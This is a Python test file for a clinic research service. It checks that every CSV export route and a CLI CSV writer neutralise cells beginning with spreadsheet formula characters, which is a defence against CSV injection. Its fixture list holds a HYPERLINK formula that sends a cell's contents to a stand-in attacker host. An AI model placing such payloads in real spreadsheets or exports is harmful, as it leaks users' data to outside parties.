"""No cell starts a formula: every CSV the service writes, over every route in the OpenAPI schema that can answer
``text/csv`` (with every choice of its enumerated query parameters) and the CLI's CSV files, on records whose text
starts with each character a spreadsheet reads as the start of a formula (OWASP, CSV Injection).

Each CSV is parsed with Python's ``csv`` module; a cell may start with ``=``, ``+``, ``-``, ``@``, tab or carriage
return only if it is a number (``float`` parses it: a score of -3 stays -3). The routes are found from the schema's
response content types, so an export added later is covered without editing this file.
"""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient

from app.auth.permissions import Role
from app.research import imports
from tests.conftest import ISSUE_PHQ9, ClinicKeys, new_clinic
from tests.research.conftest import all_items, measure, new_patient, new_project, new_session
from tests.research.test_postgres_export import store_as_is
from tests.security.openapi_routes import Route, routes

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("http://attacker.example/?q="&A1,"open")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
"""One text per dangerous first character (``FORMULA_STARTS``), each a formula a spreadsheet would run."""
CSV = "text/csv"


def dangerous_cells(content: str) -> tuple[int, list[str]]:
    """(cells read, the cells that start a formula and are not numbers)."""
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    found = []
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            try:
                float(cell)
            except ValueError:
                found.append(cell)
    return len(cells), found


def _resolve(schema: dict[str, Any], app_schema: dict[str, Any]) -> dict[str, Any]:
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        resolved: dict[str, Any] = app_schema["components"]["schemas"][name]
        return resolved
    if "anyOf" in schema:
        return next((_resolve(option, app_schema) for option in schema["anyOf"] if option.get("type") != "null"), {})
    return schema


def csv_requests(app_schema: dict[str, Any], route: Route) -> list[dict[str, str]]:
    """Every combination of the route's enumerated query parameters (and booleans) with CSV chosen where a parameter
    chooses the format; a route answering only CSV keeps its other parameters' defaults."""
    choices: dict[str, list[str]] = {}
    for parameter in route.parameters("query"):
        schema = _resolve(parameter.get("schema", {}), app_schema)
        if "enum" in schema:
            values = [str(value) for value in schema["enum"]]
            choices[parameter["name"]] = ["csv"] if "csv" in values else values
        elif schema.get("type") == "boolean":
            choices[parameter["name"]] = ["false", "true"]
    names = list(choices)
    return [dict(zip(names, values, strict=True)) for values in itertools.product(*(choices[n] for n in names))]


def csv_routes(app: FastAPI) -> list[Route]:
    """Every route whose answer may be ``text/csv``, by its documented responses or a ``format=csv`` choice."""
    schema = app.openapi()
    found = []
    for route in routes(app):
        answers = route.operation.get("responses", {})
        documented = any(CSV in response.get("content", {}) for response in answers.values())
        chosen = any("csv" in _resolve(p.get("schema", {}), schema).get("enum", []) for p in route.parameters("query"))
        if route.method == "GET" and (documented or chosen):
            found.append(route)
    return found


def stock_formulas(app: FastAPI, client: TestClient) -> ClinicKeys:
    """A clinic whose every patient's text starts a formula: external ids, measurements in sessions, stored scores
    whose keys, bands, flags and a value are such text (as an older definition could have left them)."""
    clinic = new_clinic(app)
    for number, text in enumerate(FORMULAS, start=1):
        patient = new_patient(client, clinic, text)
        therapy_session = new_session(client, clinic, patient, 1, f"2026-11-0{number}T08:00:00Z")
        measure(client, clinic, patient, "phq9", ISSUE_PHQ9, f"2026-11-0{number}T09:00:00Z", therapy_session)
        measure(client, clinic, patient, "gad7", all_items(7, 1), f"2026-11-0{number}T09:30:00Z")
        scores = {
            "total": {"value": -3, "band": text, "prorated": False},
            text: {"value": text, "band": text, "prorated": False},
        }
        store_as_is(app, clinic, patient, "scs_sf", scores, [text, "x"], datetime(2026, 11, 20 + number, tzinfo=UTC))
    return clinic


def test_no_cell_of_any_csv_starts_a_formula(
    app: FastAPI, client: TestClient, figures: list[str], backend: str
) -> None:
    clinic = stock_formulas(app, client)
    headers = clinic.headers(Role.ADMIN)
    project = new_project(client, clinic).name  # opt-out: every patient; an admin names the project it exports
    schema = app.openapi()
    exports = csv_routes(app)
    assert exports, "no route in the schema answers text/csv"
    answered = checked = total = 0
    answering: set[str] = set()
    dangerous: list[tuple[str, dict[str, str], list[str]]] = []
    for route in exports:
        for params in csv_requests(schema, route):
            if any(parameter["name"] == "project" for parameter in route.parameters("query")):
                params = {**params, "project": project}
            response = client.get(route.path, params=params, headers=headers)
            assert response.status_code == 200, (route.label, params, response.text)
            if not response.headers["content-type"].startswith(CSV):
                continue  # it takes format=csv but answers about the CSV (the codebook), not with one
            answered += 1
            answering.add(route.label)
            cells, found = dangerous_cells(response.text)
            checked += cells
            total += len(found)
            if found:
                dangerous.append((route.label, params, found[:3]))
            # The formulas were written, and neutralised: identified exports carry the external ids.
            if "identified" in route.path:
                written = {cell for row in csv.reader(io.StringIO(response.text, newline="")) for cell in row}
                assert {"'" + text for text in FORMULAS} <= written

    records = [
        {
            "external_id": text,
            "instrument": "phq9",
            "measured_at": f"2026-11-0{number}T09:00:00Z",
            "session_number": None,
            "declared_total": None,
            "items": {**ISSUE_PHQ9, "1": text},
        }
        for number, text in enumerate(FORMULAS, start=1)
    ]
    out = io.StringIO()
    imports.write_records(records, out, import_format="csv", items=9)
    cli_cells, cli_found = dangerous_cells(out.getvalue())
    total += len(cli_found)
    if cli_found:
        dangerous.append(("CLI research generate --output (import records)", {}, cli_found[:3]))

    figures.append(
        f"no cell starts a formula [{backend}]: {len(exports)} routes that may answer CSV, {len(answering)} did "
        f"({', '.join(sorted(answering))}) in {answered} routes x parameter choices, + the CLI's import-record CSV; "
        f"{checked + cli_cells} cells checked, {total} dangerous"
    )
    assert not dangerous, dangerous
    assert {"GET /v1/research/export", "GET /v1/research/export/identified"} <= answering
